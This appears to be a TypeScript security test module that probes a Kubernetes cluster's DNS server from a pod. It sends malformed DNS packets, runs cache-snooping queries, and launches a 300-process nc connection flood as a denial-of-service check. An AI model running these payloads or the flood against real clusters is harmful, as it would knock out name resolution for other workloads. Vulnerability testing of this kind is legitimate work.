import { each, type Attack } from '../attack.ts';
import { at, type Target } from '../target.ts';

const name = (...labels: string[]): Buffer =>
  Buffer.concat([
    ...labels.map((label) =>
      Buffer.concat([Buffer.of(label.length), Buffer.from(label, 'latin1')]),
    ),
    Buffer.of(0),
  ]);
const message = (
  question: Buffer,
  more: { flags?: number; counts?: number[]; type?: number; class?: number } = {},
): Buffer =>
  Buffer.concat([
    words(7, more.flags ?? 0x0100, ...(more.counts ?? [1, 0, 0, 0])),
    question,
    words(more.type ?? 1, more.class ?? 1),
  ]);
const framed = (data: Buffer): Buffer => Buffer.concat([words(data.length), data]);

function words(...values: number[]): Buffer {
  const data = Buffer.alloc(values.length * 2);
  values.forEach((value, i) => data.writeUInt16BE(value, i * 2));
  return data;
}

/** A pod that asks, and the address of the server it was given. */
async function asker(
  target: Target,
): Promise<{ ns: string; dns: string; exec(script: string): Promise<string> }> {
  const ns = await target.namespace();
  const spec = {
    nodeName: target.node,
    terminationGracePeriodSeconds: 0,
    automountServiceAccountToken: false,
    containers: [
      {
        name: 'c',
        image: target.image,
        imagePullPolicy: 'IfNotPresent',
        command: ['sleep', '600'],
      },
    ],
  };
  await target.must('POST', `/api/v1/namespaces/${ns}/pods`, {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'asker' },
    spec,
  });
  await target.until(
    'the asker runs',
    async () =>
      at(
        (await target.call({ path: `/api/v1/namespaces/${ns}/pods/asker` })).json,
        'status',
        'phase',
      ) === 'Running',
  );
  const exec = (script: string): Promise<string> =>
    target.kubectl(['-n', ns, 'exec', 'asker', '--', 'sh', '-c', script]);
  const dns = /nameserver\s+(\S+)/.exec(await exec('cat /etc/resolv.conf'))?.[1] ?? '';
  return { ns, dns, exec };
}

/** Sends bytes over TCP from the pod and gives what comes back within two seconds. */
async function send(pod: Awaited<ReturnType<typeof asker>>, data: Buffer): Promise<Buffer> {
  const octal = [...data].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');
  const out = await pod.exec(
    `(printf '${octal}'; sleep 2) | timeout 5 nc ${pod.dns} 53 | od -An -v -tx1; true`,
  );
  return Buffer.from(out.replace(/\s+/g, ''), 'hex');
}

async function stillAnswers(pod: Awaited<ReturnType<typeof asker>>): Promise<boolean> {
  const question = message(name('kubernetes', 'default', 'svc', 'cluster', 'local'));
  const udp = await pod.exec('timeout 4 nslookup kubernetes.default.svc.cluster.local 2>&1; true');
  const reply = await send(pod, framed(question));
  return /Name:\s+kubernetes/.test(udp) && reply.length > 14 && reply.readUInt16BE(8) > 0;
}

const cluster = ['cluster', 'local'];
export const attacks: Attack[] = [
  ...each(
    'dns-label-with-dots',
    {
      first: name('kubernetes.default', 'svc', ...cluster),
      middle: name('kubernetes', 'default.svc', ...cluster),
      whole: name('kubernetes.default.svc.cluster.local'),
      domain: name('kubernetes', 'default', 'svc', 'cluster.local'),
    },
    async (target, question) => {
      const reply = await send(await asker(target), framed(message(question)));
      return reply.length > 14 && reply.readUInt16BE(8) > 0
        ? 'a label with a dot in it counts as two labels'
        : undefined;
    },
    { needsNode: true },
  ),

  ...each(
    'dns-malformed',
    {
      'pointer-to-itself': framed(message(Buffer.of(0xc0, 12))),
      'pointer-forwards': framed(message(Buffer.of(0xc0, 60))),
      'many-questions': framed(message(name('a'), { counts: [65535, 65535, 65535, 65535] })),
      'no-question': framed(words(7, 0x0100, 0, 0, 0, 0)),
      'an-answer': framed(message(name('a'), { flags: 0x8180 })),
      'reserved-label': framed(message(Buffer.from([0x80, 1, 0]))),
      'length-of-nothing': words(0, 0, 0),
      'longest-length': Buffer.concat([words(65535), Buffer.alloc(4000)]),
    },
    async (target, data) => {
      const pod = await asker(target);
      await send(pod, data);
      return (await stillAnswers(pod)) ? undefined : 'the server answers nobody any more';
    },
    { needsNode: true },
  ),

  ...each(
    'dns-without-recursion',
    { outside: ['example', 'org'], bank: ['www', 'bank', 'example'], root: ['com'] },
    async (target, labels) => {
      const reply = await send(await asker(target), framed(message(name(...labels), { flags: 0 })));
      return reply.length > 14 && reply.readUInt16BE(8) > 0
        ? 'what others asked for is told without a question to a resolver'
        : undefined;
    },
    { needsNode: true },
  ),

  ...each(
    'dns-half-open-clients',
    {
      silent: '',
      'half-a-length': 'printf "\\000";',
      'half-a-question': 'printf "\\000\\040\\001";',
    },
    async (target, words) => {
      const [bad, good] = [await asker(target), await asker(target)];
      // They come back as often as they are put off, for as long as the others are asked.
      const one = `(${words} sleep 30) | nc ${bad.dns} 53 >/dev/null 2>&1`;
      const loop = `while :; do ${one}; sleep 1; done`;
      const flood = bad
        .exec(`i=0; while [ $i -lt 300 ]; do ${loop} & i=$((i+1)); done; sleep 25; kill -9 -1`)
        .catch(() => undefined);
      target.later(() => flood);
      await new Promise((resolve) => setTimeout(resolve, 6000));
      return (await stillAnswers(good)) ? undefined : 'connections of one pod keep all others out';
    },
    { needsNode: true },
  ),
];
